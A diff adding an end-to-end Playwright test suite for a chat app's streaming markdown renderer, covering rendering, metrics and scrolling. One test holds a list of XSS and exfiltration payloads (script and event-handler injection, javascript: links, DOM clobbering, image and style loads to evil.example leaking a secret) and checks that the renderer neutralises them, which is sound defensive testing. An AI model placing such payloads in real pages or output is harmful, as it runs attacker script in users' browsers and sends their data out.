@@ -1,0 +1,374 @@
+"""Answers as streaming markdown, in real Chromium against the real gateway: what the
+DOM holds while and after a long answer streams, that streaming renders exactly what a
+whole render does, that hostile model output cannot run, load or navigate anything,
+and the per-reply latency metrics."""
+
+from __future__ import annotations
+
+import json
+import random
+import re
+from typing import Iterator
+from urllib.parse import urlparse
+
+import httpx
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.e2e.conftest import Console, wait_ready
+
+pytestmark = pytest.mark.e2e
+
+ANSWER = '.msg[data-role="assistant"]'
+CONTENT = f"{ANSWER} .content"
+PIECE = re.compile(r"\s*\S+|\s+")  # how the built-in model splits an answer into tokens
+
+# Installed before the page's own scripts (an init script is not subject to the CSP):
+# records any change to a finished block, which incremental rendering must never make.
+WATCH_FINISHED_BLOCKS = """
+window.__blockMutations = [];
+new MutationObserver((records) => {
+  for (const r of records) {
+    const target = r.target.nodeType === 1 ? r.target : r.target.parentElement;
+    if (!target || !target.closest('.md') || target.closest('.md-tail')) continue;
+    if (target.classList.contains('md')) {
+      // The answer's own list of blocks: blocks are only ever added (the tail goes at the end).
+      for (const n of r.removedNodes) if (!(n.classList && n.classList.contains('md-tail'))) window.__blockMutations.push('removed ' + n.nodeName);
+    } else {
+      window.__blockMutations.push(r.type + ' in ' + target.nodeName);
+    }
+  }
+}).observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
+"""
+
+
+def settings(page: Page, sim: str, **extra: object) -> None:
+    value = json.dumps({"headers": {"x-firsttoken-sim": sim}, **extra})
+    page.add_init_script(f"localStorage.setItem('firsttoken.settings.v1', {json.dumps(value)})")
+
+
+def model_answer(gateway_url: str, prompt: str, tokens: int) -> str:
+    r = httpx.post(gateway_url + "/v1/chat/completions", headers={"x-firsttoken-sim": f"ttft_ms=0,tokens={tokens}"},
+                   json={"model": "firsttoken-sim", "messages": [{"role": "user", "content": prompt}]}, timeout=30)
+    return r.json()["choices"][0]["message"]["content"]
+
+
+def at_least(n: int) -> re.Pattern[str]:
+    """A pattern for integers >= n (auto-waiting assertions compare attributes as text)."""
+    digits = str(n)
+    alternatives = [rf"\d{{{len(digits) + 1},}}"]
+    for i, d in enumerate(map(int, digits)):
+        rest = len(digits) - i - 1
+        if rest == 0:
+            alternatives.append(f"{digits[:i]}[{d}-9]")
+        elif d < 9:
+            alternatives.append(f"{digits[:i]}[{d + 1}-9]\\d{{{rest}}}")
+    return re.compile(f"^(?:{'|'.join(alternatives)})$")
+
+
+def send(page: Page, text: str) -> None:
+    page.fill("#prompt", text)
+    page.click("#send")
+
+
+@pytest.fixture
+def mobile_page(browser: Browser, console: Console) -> Iterator[Page]:
+    """A phone: Pixel 7 viewport, touch, device scale factor and user agent."""
+    from playwright.sync_api import sync_playwright  # noqa: F401 - devices come from the driver
+
+    device = {
+        "viewport": {"width": 412, "height": 839}, "screen": {"width": 412, "height": 915},
+        "device_scale_factor": 2.625, "is_mobile": True, "has_touch": True,
+        "user_agent": "Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/159.0 Mobile Safari/537.36",
+    }
+    context = browser.new_context(**device)
+    p = context.new_page()
+    p.on("console", console.on_console)
+    p.on("pageerror", console.on_error)
+    yield p
+    context.close()
+    print("\n".join(["--- page console ---", *console.messages]))
+    assert not console.page_errors, f"uncaught errors in the page: {console.page_errors}"
+    violations = [m for m in console.messages if "Content Security Policy" in m]
+    assert not violations, f"the page broke its own CSP: {violations}"
+
+
+# ---- a long answer ----------------------------------------------------------------------
+
+
+def test_long_markdown_answer_streams_into_blocks_that_are_never_redone(mobile_page: Page, gateway_url: str) -> None:
+    page = mobile_page
+    prompt = "a long answer with code and tables"
+    settings(page, "ttft_ms=0,tps=400,tokens=2000,stamp=1", compress="off")
+    page.add_init_script(WATCH_FINISHED_BLOCKS)
+    page.goto(gateway_url + "/")
+    wait_ready(page)
+    send(page, prompt)
+    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=90_000)
+
+    source = model_answer(gateway_url, prompt, 2000)
+    content = page.locator(CONTENT)
+    # Every block kind the model writes, as elements, as many as in the source.
+    assert content.locator(":scope > h2").count() == source.count("\n## ")
+    assert content.locator(":scope > pre > code.language-python").count() == source.count("```python")
+    tables = content.locator(":scope > table")
+    assert tables.count() == source.count("| name | time | note |") > 0
+    assert tables.first.locator("thead th").all_inner_texts() == ["name", "time", "note"]
+    assert tables.first.locator("tbody tr").count() == 3
+    assert tables.first.locator("tbody td").nth(1).get_attribute("align") == "right"
+    assert content.locator(":scope > ul > li").count() == source.count("\n- ")
+    assert content.locator("p strong").count() + content.locator("p code").count() > 10
+    assert content.locator(".md-tail").count() == 0  # nothing left open
+    code = content.locator("pre code").first.inner_text()
+    assert code.startswith("def ") and "return {" in code
+    # No markdown syntax left over as text (the fences, pipes and hashes became elements).
+    text = content.inner_text()
+    assert "```" not in text and "## " not in text and "|---" not in text
+
+    paints = int(page.get_attribute(ANSWER, "data-paints"))
+    assert paints > 20  # painted as it streamed, not at the end
+    assert page.evaluate("window.__blockMutations") == []
+
+    # Streaming rendered exactly what rendering the whole answer at once does: after a
+    # reload, the answer is rendered from storage in one go.
+    streamed = content.inner_html()
+    page.reload(wait_until="domcontentloaded")
+    expect(page.locator(CONTENT)).to_have_count(1)
+    assert page.locator(CONTENT).inner_html() == streamed
+
+
+def test_an_open_code_fence_and_an_open_table_render_before_they_close(page: Page, gateway_url: str) -> None:
+    text = ("Intro line.\n\n```python\ndef frame(x):\n    return x + 1\n```\n\n"
+            "| name | time |\n|---|---:|\n| paint | 4 ms |\n| layout | 2 ms |\n\nThe end.")
+    pieces = PIECE.findall(text)
+    in_fence = next(i for i, p in enumerate(pieces) if "return" in p) + 1
+    settings(page, f"ttft_ms=0,tps=1000,echo=1,stall_ms=4000,stall_after={in_fence}", compress="off")
+    page.goto(gateway_url + "/")
+    wait_ready(page)
+    send(page, text)
+    # Mid-fence (the stall): already a code block, with what arrived, and no stray fence.
+    code = page.locator(f"{CONTENT} pre code.language-python")
+    expect(code).to_contain_text("def frame(x):", timeout=30_000)
+    assert page.get_attribute(ANSWER, "data-state") == "streaming"
+    assert "```" not in page.inner_text(CONTENT)
+    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=30_000)
+    assert page.locator(f"{CONTENT} pre code").inner_text().rstrip("\n") == "def frame(x):\n    return x + 1"
+    assert page.locator(f"{CONTENT} table tbody tr").count() == 2
+
+
+def test_a_table_renders_row_by_row_while_it_streams(page: Page, gateway_url: str) -> None:
+    text = "| name | time |\n|---|---:|\n| paint | 4 ms |\n| layout | 2 ms |\n| style | 1 ms |\n\nAfter."
+    pieces = PIECE.findall(text)
+    after_first_row = next(i for i, p in enumerate(pieces) if "ms" in p) + 2
+    settings(page, f"ttft_ms=0,tps=1000,echo=1,stall_ms=4000,stall_after={after_first_row}", compress="off")
+    page.goto(gateway_url + "/")
+    wait_ready(page)
+    send(page, text)
+    rows = page.locator(f"{CONTENT} table tbody tr")
+    expect(rows.first).to_contain_text("paint", timeout=30_000)
+    assert page.get_attribute(ANSWER, "data-state") == "streaming"
+    assert "|" not in page.inner_text(CONTENT)  # never a paragraph of pipes
+    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=30_000)
+    assert rows.count() == 3
+
+
+# ---- incremental = whole, whatever the splits --------------------------------------------
+
+CORPUS = [
+    "# Title\n\nSome *em*, **strong**, `code`, ~~del~~, a [link](https://example.com/a?b=1).\n\nLast.",
+    "Setext heading\n===\n\nAnd another\n---\n\ntext",
+    "- one\n- two\n  - nested\n  - more\n- three\n\n1. first\n2. second\n\n  8. eight\n\ntail para",
+    "- loose\n\n- list\n\n  with a second paragraph\n\n- end\n\nafter",
+    "```\nno lang\n```\n\n~~~js\nlet a = 1;\n~~~\n\n    indented code\n    block\n\ntext",
+    "````md\n```\nnested fence\n```\n````\n\nafter",
+    "```python\nnever closed\nline 2\n",
+    "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n| 4 | 5 |\n\n| x |\n|---|\n| y |",
+    "> quote\n> more\n>\n> - list in quote\n\nout",
+    # (Definitions first: a reference to one that has not arrived yet stays text, as it streams.)
+    "[1]: https://example.com/one\n[other]: https://example.com/two 'T'\n\nPara with [ref][1] and [other].\n\nend",
+    "Line one  \nhard break\\\nand another\n\n***\n\n- [ ] task\n- [x] done",
+    # (Raw HTML within one block: HTML spanning blank lines is rendered block by block.)
+    "<details><summary>More</summary>Hidden</details>\n\nText <b>bold</b> <kbd>K</kbd> <br> x",
+    "Windows\r\nline endings\r\n\r\n- a\r\n- b\r\n",
+    "Unclosed **bold and `code and [link](https://exa",
+    "1) paren list\n2) second\n\nHeading\n# Not setext\n\n<div>\nhtml block\n</div>\n\nend",
+    "Emoji 🎉 and accents é, CJK 文字, RTL שלום\n\n| ü | ß |\n|---|---|\n| 🎉 | 文 |",
+]
+
+
+def test_streaming_renders_what_a_whole_render_does_for_any_split(page: Page, gateway_url: str) -> None:
+    page.goto(gateway_url + "/", wait_until="domcontentloaded")
+    rng = random.Random(7)
+    cases = []
+    for doc in CORPUS:
+        splits = [[doc], list(doc)]  # whole, one character at a time
+        for _ in range(3):  # and random cuts
+            cuts = sorted(rng.sample(range(1, len(doc)), min(len(doc) - 1, rng.randrange(2, 12))))
+            splits.append([doc[a:b] for a, b in zip([0, *cuts], [*cuts, len(doc)])])
+        cases.append({"doc": doc, "splits": splits})
+    results = page.evaluate(
+        """async (cases) => {
+          const { MarkdownStream, renderMarkdown } = await import('/js/render.js');
+          const out = [];
+          for (const { doc, splits } of cases) {
+            const whole = document.createElement('div');
+            renderMarkdown(whole, doc);
+            const streamed = splits.map((pieces) => {
+              const el = document.createElement('div');
+              const s = new MarkdownStream(el);
+              for (const p of pieces) s.append(p);
+              s.end();
+              return el.innerHTML;
+            });
+            out.push({ whole: whole.innerHTML, streamed });
+          }
+          return out;
+        }""",
+        cases,
+    )
+    for doc, result in zip(CORPUS, results):
+        assert result["whole"], doc
+        for i, html in enumerate(result["streamed"]):
+            assert html == result["whole"], f"split {i} of {doc!r}"
+
+
+# ---- hostile output -----------------------------------------------------------------------
+
+HOSTILE = [
+    '<script>window.__pwned = "script"</script>',
+    '<img src=x onerror="window.__pwned = \'img\'">',
+    '<svg onload="window.__pwned = \'svg\'"><circle r=1 /></svg>',
+    '<svg><script>window.__pwned = "svg script"</script></svg>',
+    '<math><mi xlink:href="javascript:window.__pwned=1">m</mi></math>',
+    '<iframe src="https://evil.example/frame" srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+    '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">',
+    '[click](javascript:window.__pwned=1) [c2](JaVaScRiPt:alert(1)) [c3]( javascript:alert(1))',
+    '<a href="jav&#x09;ascript:alert(1)">tab</a> <a href="vbscript:x">vb</a> <a href="data:text/html,<script>alert(1)</script>">data</a>',
+    '[ref][evil]\n\n[evil]: javascript:alert(1)',
+    '<javascript:alert(1)>',
+    '![leak](https://evil.example/leak.png?q=SECRET) ![rel](/v1/models?leak=1) ![proto](//evil.example/p.png)',
+    '<img srcset="https://evil.example/a.png 1x" alt="srcset"> <picture><source srcset="https://evil.example/b.png"></picture>',
+    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
+    '<input type="image" src="https://evil.example/i.png"> <input type="text" value="phish">',
+    '<div style="background:url(https://evil.example/bg.png)">styled</div><style>@import url(https://evil.example/s.css);</style>',
+    '<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/p">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
+    '<form action="https://evil.example/f"><button formaction="https://evil.example/b">go</button></form>',
+    '<details open ontoggle="window.__pwned=\'toggle\'"><summary>s</summary>x</details>',
+    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>',
+    '<a id="messages" name="prompt" href="https://example.com/ok" class="msg" ping="https://evil.example/ping">clobber</a>',
+    '<p>unclosed <img src="https://evil.example/partial.png',
+    '[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![svg](data:image/svg+xml;base64,PHN2Zy8+)',
+    '![ok](data:image/png;base64,iVBORw0KGgo=) [fine](https://example.com/docs "a title")',
+    '<b onmouseover="window.__pwned=1">bold?</b> <b>bare bold</b> <br> <sup>2</sup>',
+]
+
+
+def test_hostile_markdown_runs_nothing_loads_nothing_and_cannot_navigate(page: Page, gateway_url: str) -> None:
+    requests: list[str] = []
+    page.on("request", lambda r: requests.append(r.url))
+    settings(page, "ttft_ms=0,tps=2000,echo=1", compress="off")
+    page.goto(gateway_url + "/")
+    wait_ready(page)
+    origin = urlparse(gateway_url).netloc
+    before = len(requests)
+    text = "\n\n".join(HOSTILE) + "\n\nThe end."
+    send(page, text)
+    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)
+    expect(page.locator(CONTENT)).to_contain_text("The end.")
+
+    assert page.evaluate("window.__pwned") is None
+    content = page.locator(CONTENT)
+    for tag in ["script", "svg", "math", "iframe", "object", "embed", "video", "audio", "source", "picture",
+                "style", "link", "meta", "base", "form", "button", "noscript"]:
+        assert content.locator(tag).count() == 0, tag
+    attributes = page.evaluate(
+        """(sel) => [...document.querySelector(sel).querySelectorAll('*')].flatMap(
+             (el) => [...el.attributes].map((a) => [el.nodeName, a.name, a.value]))""",
+        CONTENT,
+    )
+    for node, name, value in attributes:
+        assert not name.startswith("on"), (node, name)
+        assert name not in ("style", "id", "name", "srcset", "ping", "formaction", "poster", "xlink:href"), (node, name)
+        if name == "href":
+            assert value.startswith(("https://", "http://", "mailto:")), value
+        if name == "src":
+            assert value.startswith("data:image/"), value
+        if name == "class":
+            assert node == "CODE" or value == "md-img-blocked", (node, value)
+    for link in content.locator("a[href]").all():
+        assert link.get_attribute("target") == "_blank"
+        assert "noopener" in link.get_attribute("rel") and "noreferrer" in link.get_attribute("rel")
+    # The blocked images still say what they were; an inline data: image is shown.
+    assert content.locator("img.md-img-blocked[alt='[image: leak]']").count() == 1
+    assert content.locator("img[src^='data:image/png']").count() == 1
+    # Raw HTML with attributes is shown as text, never parsed; bare formatting tags work.
+    text = content.inner_text()
+    assert "<script>" in text and "<iframe" in text and 'onmouseover="' in text
+    assert content.locator("b", has_text="bare bold").count() == 1 and content.locator("sup").count() == 1
+    # The page's own elements were not clobbered.
+    assert page.evaluate("document.getElementById('messages').nodeName") == "OL"
+    # Links that survived a click do not take the page anywhere; those that lost their href do nothing.
+    url = page.url
+    for name in ("click", "c2", "c3", "d"):
+        link = content.locator("a", has_text=re.compile(f"^{name}$"))
+        assert link.get_attribute("href") is None
+        link.click()
+    assert page.url == url
+    # Nothing left the page: only this origin was asked for anything, and nothing the model named.
+    after = requests[before:]
+    assert any(u.endswith("/v1/chat/completions") for u in after)
+    assert all(urlparse(u).netloc == origin for u in after if urlparse(u).scheme in ("http", "https")), after
+    assert not [u for u in after if "evil" in u or "leak" in u or "/v1/models" in u], after
+
+
+# ---- metrics --------------------------------------------------------------------------------
+
+
+def test_each_reply_reports_where_its_time_went(page: Page, gateway_url: str) -> None:
+    settings(page, "ttft_ms=100,tps=200,tokens=120,stamp=1")
+    page.goto(gateway_url + "/")
+    wait_ready(page)
+    page.fill("#prompt", "measure me")
+    metrics = page.evaluate(
+        """() => new Promise((resolve) => {
+          addEventListener('firsttoken:metrics', (e) => resolve(e.detail), { once: true });
+          document.getElementById('send').click();
+        })"""
+    )
+    assert metrics["chunk_clock"] == "server"  # the gateway's stamps came through the protocol
+    assert metrics["chunks"] >= 120
+    order = [metrics[k] for k in ("send_to_request_ms", "send_to_first_byte_ms", "send_to_first_delta_ms", "send_to_first_paint_ms")]
+    assert all(v is not None and v >= 0 for v in order) and order == sorted(order), order
+    assert metrics["send_to_first_byte_ms"] - metrics["send_to_request_ms"] >= 90  # the model's ttft
+    assert 0 <= metrics["first_byte_to_first_paint_ms"] < 5_000
+    c2p = metrics["chunk_to_paint_ms"]
+    assert 0 < c2p["p50"] <= c2p["p95"] <= c2p["max"] < 10_000
+    assert 100 < metrics["tokens_per_s"] < 400
+    assert metrics["completion_tokens"] == 120
+    # In the page, under the answer, and kept on its element.
+    line = page.locator(f"{ANSWER} .reply-metrics")
+    expect(line).to_contain_text("chunk→paint p50")
+    expect(line).to_contain_text("tok/s")
+    assert json.loads(page.get_attribute(ANSWER, "data-metrics"))["id"] == metrics["id"]
+
+
+def test_the_view_follows_the_answer_until_the_user_scrolls_up(mobile_page: Page, gateway_url: str) -> None:
+    page = mobile_page
+    settings(page, "ttft_ms=0,tps=60,tokens=1500")
+    page.goto(gateway_url + "/")
+    wait_ready(page)
+    send(page, "follow me")
+    answer = page.locator(ANSWER)
+    expect(answer).to_have_attribute("data-paints", at_least(300), timeout=60_000)
+    chat = page.locator("#chat")
+    assert chat.evaluate("(el) => el.scrollHeight > 2 * el.clientHeight")  # long enough to scroll
+    assert chat.evaluate("(el) => el.scrollHeight - el.scrollTop - el.clientHeight") < 48  # following
+    # The user scrolls up (the page tells a user's scroll by where the view ends up).
+    top = chat.evaluate("(el) => { el.scrollTop -= 400; return el.scrollTop; }")
+    height = chat.evaluate("(el) => el.scrollHeight")
+    paints = int(answer.get_attribute("data-paints"))
+    expect(answer).to_have_attribute("data-paints", at_least(paints + 60), timeout=30_000)
+    assert chat.evaluate("(el) => el.scrollHeight") > height  # it kept growing…
+    assert abs(chat.evaluate("(el) => el.scrollTop") - top) < 2  # …and the view stayed put
+    page.click("#stop")
